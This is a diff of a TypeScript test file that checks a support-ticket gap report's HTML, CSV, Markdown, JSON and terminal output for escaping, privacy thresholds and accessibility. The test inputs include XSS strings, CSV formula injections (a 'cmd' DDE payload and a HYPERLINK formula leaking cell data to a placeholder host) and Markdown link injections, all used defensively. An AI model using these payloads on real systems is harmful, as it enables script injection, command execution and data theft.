@@ -1,60 +1,32 @@
+import { readFileSync } from 'node:fs'
+import { parse } from 'csv-parse/sync'
 import fc from 'fast-check'
 import { parse as parseHtml } from 'node-html-parser'
+import remarkGfm from 'remark-gfm'
+import remarkParse from 'remark-parse'
+import { unified } from 'unified'
+import { visit } from 'unist-util-visit'
 import { describe, expect, test } from 'vitest'
-import type { GapRow } from '#api/storage/tickets-schema.ts'
+import { z } from 'zod'
 import { cell, csvReport } from '#scripts/reporters/csv.ts'
-import { gapReport, headline, type ReportFacts } from '#scripts/reporters/gap-report.ts'
+import { gapReportSchema } from '#scripts/reporters/gap-report.schema.ts'
+import { headline } from '#scripts/reporters/gap-report.ts'
 import { htmlReport } from '#scripts/reporters/html.ts'
 import { jsonReport } from '#scripts/reporters/json.ts'
+import { markdownReport, safe } from '#scripts/reporters/markdown.ts'
+import { opener } from '#scripts/reporters/opener.ts'
 import { terminalReport } from '#scripts/reporters/terminal.ts'
+import { gap, largeReport, report } from './example-report.ts'
 
-function gap(rank: number, change: Partial<GapRow> = {}): GapRow {
-  return {
-    ...{
-      id: `g${rank}`,
-      run: 1,
-      rank,
-      kind: 'missing',
-      title: `question ${rank}`,
-      keywords: ['card', 'lost card'],
-    },
-    ...{ volume: 100, customers: 90, trend: 1, weeks: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12] },
-    ...{
-      firstSeen: '2026-01-02',
-      lastSeen: '2026-11-14',
-      languages: { en: 80, tr: 20 },
-      channels: { email: 100 },
-    },
-    segments: [
-      { segment: 'business', lift: 5.1, low: 4.3, high: 6, tickets: 40 },
-      { segment: 'student', lift: 1.2, low: 0.8, high: 1.5, tickets: 10 },
-    ],
-    ...{ asked: { ticket: 100 }, recent: { volume: 20, customers: 18 }, value: 1, votes: null },
-    ...{ nearest: null, score: 1, samples: [{ ticket: 't', text: `question ${rank}`, language: 'tr' }] },
-    ...change,
-  }
-}
-
-function report(gaps: GapRow[], change: Partial<ReportFacts> = {}) {
-  return gapReport({
-    ...{
-      name: 'Acme',
-      brand: { hue: 222, chroma: 0.078 },
-      asOf: '2026-11-15',
-      since: '2025-11-15',
-      tickets: 1000,
-    },
-    ...{
-      locales: ['en', 'tr'],
-      segments: { business: 'Business' },
-      categories: { cards: 'Cards' },
-      gaps,
-      states: new Map(),
-    },
-    ...{ matrix: [], settings: { minTickets: 5, minCustomers: 3, days: 60 }, changes: [], terms: [] },
-    ...change,
-  })
-}
+const hostile = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '</style><script>',
+  '&lt;',
+  "'--><svg/onload=x>",
+  '\u0000\u001b[31m',
+  '\ud800',
+]
 
 describe('the gap report', () => {
   test('draws the line where four in five questions are above it', () => {
@@ -110,16 +82,6 @@ describe('the gap report', () => {
 })
 
 describe('the page', () => {
-  const hostile = [
-    '<script>alert(1)</script>',
-    '"><img src=x onerror=alert(1)>',
-    '</style><script>',
-    '&lt;',
-    "'--><svg/onload=x>",
-    '\u0000\u001b[31m',
-    '\ud800',
-  ]
-
   test('runs nothing and loads nothing, whatever customers write', () => {
     for (const text of hostile) {
       const nearest = { article: text, locale: text, title: text, score: 0.3, passage: text, why: text }
@@ -135,8 +97,13 @@ describe('the page', () => {
         channels: { [text]: 2 },
       })
       const html = htmlReport(
-        report([{ ...evil, segments: [{ segment: text, lift: 2, low: 1.5, high: 3, tickets: 3 }] }], {
+        report([{ ...evil, segments: [{ segment: text, lift: 2, low: 1.5, high: 3, tickets: 30 }] }], {
           name: text,
+          segments: { [text]: text },
+          categories: { [text]: text },
+          matrix: [{ segment: text, category: text, locale: text, articles: 2, forThem: 1 }],
+          changes: [{ what: 'merged', gap: text, of: [text] }],
+          terms: [{ term: text, language: text, searches: 3, customers: 2, lastSeen: null }],
         }),
       )
       const page = parseHtml(html)
@@ -154,6 +121,63 @@ describe('the page', () => {
     expect(html).not.toContain('unsafe-inline')
   })
 
+  test('stays light with five hundred gaps: under a megabyte', () => {
+    const html = htmlReport(largeReport(500))
+    expect(Buffer.byteLength(html)).toBeLessThan(1_000_000)
+    expect(parseHtml(html).querySelectorAll('.gaps tbody th[scope=row]')).toHaveLength(500)
+  })
+
+  test('withholds what fewer than ten of a segment asked, in every form', () => {
+    const few = { segment: 'business', lift: 7.77, low: 6.66, high: 8.88, tickets: 9 }
+    const made = report([gap(1, { segments: [few] })])
+    expect(made.gaps[0]).toMatchObject({ segments: [], withheld: ['business'] })
+    for (const write of [htmlReport, jsonReport, csvReport, markdownReport, terminalReport]) {
+      expect(write(made)).not.toMatch(/7\.77|7\.8|6\.66|8\.88/)
+    }
+    expect(htmlReport(made)).toContain('Too few to show (under 10 questions): Business')
+  })
+
+  test('lets a reader choose by kind and by the segment that asks more, without a script', () => {
+    const page = parseHtml(htmlReport(report([gap(1), gap(2, { kind: 'not for them', segments: [] })])))
+    expect(page.querySelectorAll('.filters legend').map(({ text }) => text)).toEqual([
+      'Kind of gap',
+      'Asked more by',
+    ])
+    expect(page.querySelectorAll('.gaps tbody tr').map((row) => row.getAttribute('class'))).toEqual([
+      'k0 s0',
+      'k1',
+    ])
+    expect(page.querySelector('style')?.text).toContain('main:has(#s-0:checked) .gaps tbody tr:not(.s0)')
+  })
+
+  test('explains every column where it stands, and once more in text', () => {
+    const page = parseHtml(htmlReport(report([gap(1)])))
+    const buttons = page.querySelectorAll('.why')
+    expect(buttons.length).toBeGreaterThan(4)
+    for (const button of buttons) {
+      const says = page.getElementById(button.getAttribute('popovertarget') ?? '')?.text
+      expect(says).toBe(page.querySelectorAll('.terms dd').find((dd) => dd.text === says)?.text)
+      expect(button.getAttribute('title')).toBeTruthy()
+    }
+  })
+
+  test('says of each picture the same in words', () => {
+    const page = parseHtml(htmlReport(largeReport(40)))
+    for (const part of ['segments', 'written']) {
+      expect(page.querySelector(`#${part} svg`)?.getAttribute('aria-label')).toContain('table below')
+      expect(page.querySelectorAll(`#${part} details tbody tr`).length).toBeGreaterThan(20)
+    }
+    expect(page.querySelector('#spread svg')?.getAttribute('aria-label')).toMatch(/\d+ of 40 gaps hold 80%/)
+    expect(page.querySelector('#spread h2')?.text).toMatch(/\d+ of 40 gaps hold 8\d%/)
+  })
+
+  test('tells what became of earlier gaps and what is searched in vain', () => {
+    const text = parseHtml(htmlReport(largeReport(5))).querySelector('main')?.text
+    expect(text).toContain('now also holds gap g900')
+    expect(text).toContain('gap g901 is now answered by cards/top-up')
+    expect(text).toContain('çek')
+  })
+
   test('has one heading of the first level, names for its pictures and a link for every gap', () => {
     const page = parseHtml(htmlReport(report([gap(1), gap(2)])))
     expect(page.querySelectorAll('h1')).toHaveLength(1)
@@ -167,12 +191,24 @@ describe('the page', () => {
 })
 
 describe('the table for spreadsheets', () => {
-  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\0=1', '＝1', '=cmd|" /C calc"!A0'])(
-    'does not calculate %j',
-    (text) => {
-      expect(cell(text).startsWith(`"'`)).toBe(true)
-    },
-  )
+  test.each([
+    ...[
+      '=1+1',
+      '+1',
+      '-1',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '\n=1',
+      '\0=1',
+      '＝1',
+      '＠SUM(1)',
+      '=cmd|" /C calc"!A0',
+    ],
+    '=HYPERLINK("http://x/?"&A1,"click")',
+  ])('does not calculate %j', (text) => {
+    expect(cell(text).startsWith(`"'`)).toBe(true)
+  })
 
   test('quotes everything', () => {
     fc.assert(
@@ -182,6 +218,110 @@ describe('the table for spreadsheets', () => {
       }),
     )
   })
+})
+
+test('the spreadsheet gives back what was written, whatever customers write', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'grapheme', maxLength: 40 }), (title) => {
+      const [, row] = parse(csvReport(report([gap(1, { title })])), {}) as string[][]
+      const back = row?.[4] ?? ''
+      expect([title, `'${title}`]).toContain(back)
+    }),
+    { numRuns: 200 },
+  )
+})
+
+describe('the JSON', () => {
+  test('is described by the published schema', () => {
+    const file = new URL('../../../scripts/reporters/gap-report.schema.json', import.meta.url)
+    expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual(z.toJSONSchema(gapReportSchema))
+  })
+
+  test.each([
+    ['five hundred gaps', largeReport(500)],
+    ['none', report([])],
+  ])('keeps to it with %s', (_, made) => {
+    const written = JSON.parse(jsonReport(made))
+    expect(gapReportSchema.parse(written)).toEqual(written)
+    expect(gapReportSchema.safeParse({ ...written, more: 1 }).success).toBe(false)
+  })
+})
+
+describe('the Markdown for a pull request', () => {
+  const nodes = (markdown: string) => {
+    const found: { type: string; url?: string }[] = []
+    visit(unified().use(remarkParse).use(remarkGfm).parse(markdown), (node) => {
+      found.push(node as { type: string; url?: string })
+    })
+    return found
+  }
+  const attacks = [
+    ...hostile,
+    ...[
+      '[x](javascript:alert(1))',
+      '![x](https://x.test/a.png)',
+      '| a | b |',
+      '`code`',
+      '@everyone #1',
+      '\n# Title',
+    ],
+    ...[
+      'https://x.test www.x.test a@b.test',
+      '<!-- ',
+      '&lt;script&gt;',
+      '\\',
+      '~~x~~ **y** __z__',
+      '[^1]',
+      '---',
+    ],
+  ]
+
+  test.each(attacks)('takes %j for words', (text) => {
+    const found = nodes(`before ${safe(text)} after`)
+    expect(found.map(({ type }) => type)).toEqual(['root', 'paragraph', 'text'])
+  })
+
+  test('has only the links and tables that are ours', () => {
+    for (const text of attacks) {
+      const nearest = { article: text, locale: 'en', title: text, score: 0.3, passage: text, why: text }
+      const found = nodes(
+        markdownReport(
+          report([gap(1, { title: text, kind: text, nearest })], {
+            name: text,
+            segments: { business: text },
+          }),
+        ),
+      )
+      expect(
+        found.filter(({ type }) => ['html', 'image', 'code', 'inlineCode', 'link'].includes(type)),
+      ).toEqual([])
+      expect(found.filter(({ type }) => type === 'table')).toHaveLength(2)
+      expect(found.filter(({ type }) => type === 'tableRow')).toHaveLength(4)
+      expect(found.filter(({ type }) => type === 'heading')).toHaveLength(1)
+    }
+  })
+
+  test('is short and links the nearest articles', () => {
+    const markdown = markdownReport(largeReport(500))
+    expect(markdown.split('\n').length).toBeLessThan(40)
+    expect(markdown).toContain('](articles/en/cards/top-up.mdx)')
+    expect(markdown).toContain('485 more in the whole report')
+  })
+})
+
+test('the terminal table fits eighty columns, without colour', () => {
+  for (const made of [largeReport(500), report([gap(1)]), report([])]) {
+    const lines = terminalReport(made).split('\n')
+    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(80)
+    expect(lines.join('')).not.toContain('\u001b')
+  }
+})
+
+test('the page opens with what the system has, and not without a display', () => {
+  expect(opener('darwin', {})).toEqual(['open'])
+  expect(opener('win32', {})).toEqual(['explorer.exe'])
+  expect(opener('linux', { WAYLAND_DISPLAY: 'wayland-0' })).toEqual(['xdg-open'])
+  expect(opener('linux', {})).toBeUndefined()
 })
 
 test('the terminal gets no control signs from customers', () => {
